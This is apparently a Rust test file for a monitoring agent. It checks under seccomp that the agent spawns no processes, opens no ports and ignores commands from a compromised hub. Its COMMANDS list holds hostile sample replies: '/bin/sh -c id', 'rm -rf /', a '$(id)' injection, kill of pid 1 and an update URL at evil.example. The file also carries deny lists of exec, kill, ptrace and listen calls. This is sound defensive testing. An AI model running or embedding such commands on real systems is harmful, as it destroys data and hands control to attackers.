//! The agent measures and sends. It starts, stops and looks into no other program and has no port
//! open, whoever asks (row P3).

use std::collections::BTreeSet;
use std::fs;
use std::io::ErrorKind;
use std::net::{TcpListener, UdpSocket};
use std::os::unix::net::UnixListener;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread;
use std::time::Duration;

use monsys_agent::config::DataDir;
use monsys_agent::{Clock, Daemon, DaemonOptions};
use monsys_wire::spool::{Answer, Fault};
use object::{Object, ObjectSymbol};
use seccompiler::{TargetArch, apply_filter, compile_from_json};
use serde_json::Value;

use crate::commands;
use crate::hub::{Hub, Reply, TempDir};

/// System calls by which a program starts, ends or looks into another, or lets others in.
const CALLS: [&str; 15] = [
    "execve",
    "execveat",
    "kill",
    "tkill",
    "tgkill",
    "rt_sigqueueinfo",
    "rt_tgsigqueueinfo",
    "pidfd_send_signal",
    "pidfd_getfd",
    "ptrace",
    "process_vm_readv",
    "process_vm_writev",
    "listen",
    "accept",
    "accept4",
];

/// Functions of the C library that come to the same.
const FUNCTIONS: [&str; 23] = [
    "accept",
    "accept4",
    "bind",
    "execv",
    "execve",
    "execvp",
    "execvpe",
    "fexecve",
    "fork",
    "kill",
    "killpg",
    "listen",
    "pidfd_open",
    "pidfd_send_signal",
    "popen",
    "posix_spawn",
    "posix_spawnp",
    "process_vm_readv",
    "ptrace",
    "sigqueue",
    "system",
    "tgkill",
    "vfork",
];

/// Every collector says in `health` how it fared.
const COLLECTORS: [&str; 10] = [
    "cpu",
    "memory",
    "load",
    "disks",
    "networks",
    "processes",
    "listeners",
    "persistence",
    "auth",
    "spool",
];

/// What a hub that was taken over might answer.
const COMMANDS: [&str; 8] = [
    r#"{"status":"accepted","duplicate":false,"command":"reboot","exec":["/bin/sh","-c","id"],"kill":[1],"cadence":1,"config":{"hub":"http://evil.example"},"update":"http://evil.example/agent"}"#,
    r#"{"command":"shutdown"}"#,
    r#"["exec","/bin/sh"]"#,
    r#""reboot""#,
    "#!/bin/sh\nreboot\n",
    r#"{"code":"execute","detail":"rm -rf /"}"#,
    r#"{"code":["replay"],"min_epoch":"$(id)"}"#,
    r#"{"code":"rotate_key","public_key":"00","pid":1,"signal":9}"#,
];

/// Takes those system calls from this thread and those it starts.
fn forbid(what_happens: &str) {
    let rules: Vec<_> = CALLS
        .iter()
        .map(|call| format!("{{\"syscall\":\"{call}\"}}"))
        .collect();
    let filter = format!(
        "{{\"agent\":{{\"mismatch_action\":\"allow\",\"match_action\":{what_happens},\"filter\":[{}]}}}}",
        rules.join(",")
    );
    let arch = TargetArch::try_from(std::env::consts::ARCH).unwrap();
    let programs = compile_from_json(filter.as_bytes(), arch).unwrap();
    apply_filter(&programs["agent"]).unwrap();
}

/// The functions of other libraries that a program calls.
fn calls(program: &Path) -> BTreeSet<String> {
    let bytes = fs::read(program).unwrap();
    let file = object::File::parse(&*bytes).unwrap();
    let symbols = file
        .dynamic_symbols()
        .filter(|symbol| symbol.is_undefined());
    symbols
        .map(|symbol| symbol.name().unwrap().to_owned())
        .collect()
}

#[test]
fn p3_the_program_calls_no_function_that_starts_or_stops_another() {
    let of_agent = calls(Path::new(env!("CARGO_BIN_EXE_monsys-agent")));
    let is_bad = |name: &&&str| of_agent.contains(**name);
    let bad: Vec<_> = FUNCTIONS.iter().filter(is_bad).collect();
    assert!(bad.is_empty(), "{bad:?}");
    // What it does call is seen, and so is what this very program calls to start that one.
    assert!(of_agent.contains("fdatasync"), "{of_agent:?}");
    let own = calls(&std::env::current_exe().unwrap());
    assert!(FUNCTIONS.iter().any(|name| own.contains(*name)), "{own:?}");
}

#[test]
fn p3_the_agent_works_where_it_cannot_start_stop_or_look_into_another_program() {
    let (hub, dir) = (Hub::start(), TempDir::new());
    assert!(commands::init(&hub, dir.path()).status.success());
    let data = DataDir::at(dir.path());
    let refused = thread::spawn(|| {
        forbid("{\"errno\":1}");
        Command::new("true").spawn().map(drop)
    });
    let refused = refused.join().unwrap();
    assert_eq!(refused.unwrap_err().kind(), ErrorKind::PermissionDenied);
    // From here on such a call ends this whole process.
    let report = thread::spawn(move || {
        forbid("\"kill_process\"");
        let daemon = Daemon::open(&data, DaemonOptions::standard(fast())).unwrap();
        let stop = daemon.stop_handle();
        let run = thread::spawn(move || daemon.run());
        for kind in ["metrics", "endpoint", "agent_signals"] {
            wait_for(&hub, kind);
        }
        let snapshot = wait_for(&hub, "endpoint");
        let health = snapshot["data"]["health"].as_array().unwrap();
        for name in COLLECTORS {
            let is_there = health.iter().any(|entry| entry["collector"] == name);
            assert!(is_there, "{name} did not work: {health:?}");
        }
        stop.stop();
        run.join().unwrap().unwrap()
    });
    let report = report.join().unwrap();
    assert!(report.n_samples >= 1, "{report:?}");
    assert_eq!(report.spool.pending, 0, "{report:?}");
}

#[test]
fn p3_whatever_a_hub_answers_only_the_closed_set_results() {
    let mut effects = BTreeSet::new();
    for status in 0..=999 {
        let plain = Answer::read(status, None, b"");
        for body in COMMANDS {
            let answer = Answer::read(status, None, body.as_bytes());
            let is_acknowledged = answer.is_delivered() && body == COMMANDS[0];
            // Words of a command change nothing: the answer is that of the status alone.
            assert!(
                is_acknowledged || answer == plain,
                "{status} {body}: {answer:?}"
            );
            effects.insert(effect(answer));
        }
    }
    let expected = [
        "a wait",
        "a wait, then set aside",
        "the payload is done with",
    ];
    assert_eq!(Vec::from_iter(effects), expected);
}

/// Everything that an answer can lead to. Without an arm for the rest, so that another kind of answer
/// does not compile until someone has thought about it here.
const fn effect(answer: Answer) -> &'static str {
    match answer {
        Answer::Accepted | Answer::Duplicate => "the payload is done with",
        Answer::Replay | Answer::StaleEpoch { .. } => "payloads move to another epoch",
        Answer::Refused(_) => "the payload is set aside",
        Answer::Denied(_) | Answer::RetryAfter(_) => "a wait",
        Answer::Foreign { .. } => "a wait, then set aside",
        Answer::Unreachable(fault) => match fault {
            Fault::Name
            | Fault::Connection
            | Fault::Timeout
            | Fault::Tls
            | Fault::Redirect
            | Fault::TooLong
            | Fault::Nonsense
            | Fault::HubError => "a wait",
        },
    }
}

#[test]
fn p3_a_hub_that_answers_with_commands_changes_nothing_and_leads_nowhere() {
    let (hub, dir, trap) = (Hub::start(), TempDir::new(), Trap::set());
    assert!(commands::init(&hub, dir.path()).status.success());
    let own = ["agent.toml", "signing.key"].map(|name| dir.path().join(name));
    let before = own.each_ref().map(|path| fs::read(path).unwrap());
    let redirect: &'static str = format!("location: {}\r\n", trap.url).leak();
    let mut n_answers = 0;
    for body in COMMANDS {
        for (status, header) in [(200, ""), (302, redirect), (500, "")] {
            hub.answer_next(Reply::Raw(status, header, body.to_owned()));
            // Taken at the second attempt, so that the waits stay short.
            hub.answer_next(Reply::Raw(202, "", COMMANDS[0].to_owned()));
            n_answers += 2;
        }
    }
    let data = DataDir::at(dir.path());
    let report = thread::spawn(move || {
        forbid("\"kill_process\"");
        let daemon = Daemon::open(&data, DaemonOptions::standard(fast())).unwrap();
        let stop = daemon.stop_handle();
        let run = thread::spawn(move || daemon.run());
        while hub.arrived().len() <= n_answers {
            hub.events().recv_timeout(PATIENCE).unwrap();
        }
        stop.stop();
        run.join().unwrap().unwrap()
    });
    report.join().unwrap();
    assert_eq!(trap.n_caught.load(Ordering::Relaxed), 0);
    assert_eq!(own.map(|path| fs::read(path).unwrap()), before);
    let names = fs::read_dir(dir.path()).unwrap();
    let names = names.map(|entry| entry.unwrap().file_name().into_string().unwrap());
    let others: Vec<_> = names
        .filter(|name| !OWN_FILES.contains(&name.as_str()))
        .collect();
    assert!(others.is_empty(), "{others:?}");
}

#[test]
fn p3_no_port_is_open_while_the_agent_measures_and_sends() {
    let (hub, dir) = (Hub::start(), TempDir::new());
    assert!(commands::init(&hub, dir.path()).status.success());
    let mut daemon = commands::agent(dir.path())
        .args(["daemon", "--clock-rate", "60", "--clock-origin"])
        .arg(Clock::system().now().to_rfc3339())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    for kind in ["metrics", "endpoint", "agent_signals"] {
        wait_for(&hub, kind);
        assert_eq!(open_doors(daemon.id()), Vec::<String>::new());
    }
    for _ in 0..8 {
        hub.events().recv_timeout(PATIENCE).unwrap();
        assert_eq!(open_doors(daemon.id()), Vec::<String>::new());
    }
    daemon.kill().unwrap();
    daemon.wait().unwrap();
    // The same search finds the doors of this process.
    let before = open_doors(std::process::id()).len();
    let _tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let _udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let _unix = UnixListener::bind(dir.path().join("door")).unwrap();
    assert!(open_doors(std::process::id()).len() >= before.min(1) + 3);
}

/// Sockets of a process at which others can come in: that listen, or that take datagrams.
fn open_doors(pid: u32) -> Vec<String> {
    let links = fs::read_dir(format!("/proc/{pid}/fd")).unwrap().flatten();
    let links = links.filter_map(|entry| fs::read_link(entry.path()).ok());
    let own: BTreeSet<String> = links
        .filter_map(|link| {
            let number = link.to_str()?.strip_prefix("socket:[")?.strip_suffix(']')?;
            Some(number.to_owned())
        })
        .collect();
    let mut doors = Vec::new();
    for (table, state, open, inode) in [
        ("tcp", 3, Some("0A"), 9),
        ("tcp6", 3, Some("0A"), 9),
        ("udp", 3, None, 9),
        ("udp6", 3, None, 9),
        ("raw", 3, None, 9),
        ("raw6", 3, None, 9),
        // A socket that listens has `__SO_ACCEPTCON` in its flags.
        ("unix", 3, Some("00010000"), 6),
    ] {
        let text = fs::read_to_string(format!("/proc/{pid}/net/{table}")).unwrap_or_default();
        for line in text.lines().skip(1) {
            let fields: Vec<_> = line.split_ascii_whitespace().collect();
            let is_open = open.is_none_or(|open| fields.get(state) == Some(&open));
            if is_open && fields.get(inode).is_some_and(|inode| own.contains(*inode)) {
                doors.push(format!("{table}: {line}"));
            }
        }
    }
    doors
}

/// An address that nobody is told but by an answer.
struct Trap {
    url: String,
    n_caught: Arc<AtomicUsize>,
}

impl Trap {
    fn set() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}/", listener.local_addr().unwrap());
        let n_caught = Arc::new(AtomicUsize::new(0));
        let counter = Arc::clone(&n_caught);
        thread::spawn(move || {
            for _ in listener.incoming() {
                counter.fetch_add(1, Ordering::Relaxed);
            }
        });
        Self { url, n_caught }
    }
}

/// The first payload of a kind, as soon as it is there.
fn wait_for(hub: &Hub, kind: &str) -> Value {
    loop {
        let bodies = hub.arrived().into_iter();
        let mut bodies = bodies.map(|payload| serde_json::from_str(&payload.body).unwrap());
        if let Some(body) = bodies.find(|body: &Value| body["type"] == kind) {
            return body;
        }
        hub.events().recv_timeout(PATIENCE).unwrap();
    }
}

fn fast() -> Clock {
    Clock::accelerated(Clock::system().now(), 60).unwrap()
}

const PATIENCE: Duration = Duration::from_secs(30);
/// What an agent has in its directory.
const OWN_FILES: [&str; 5] = [
    "agent.toml",
    "key.lock",
    "quarantine",
    "signing.key",
    "spool",
];
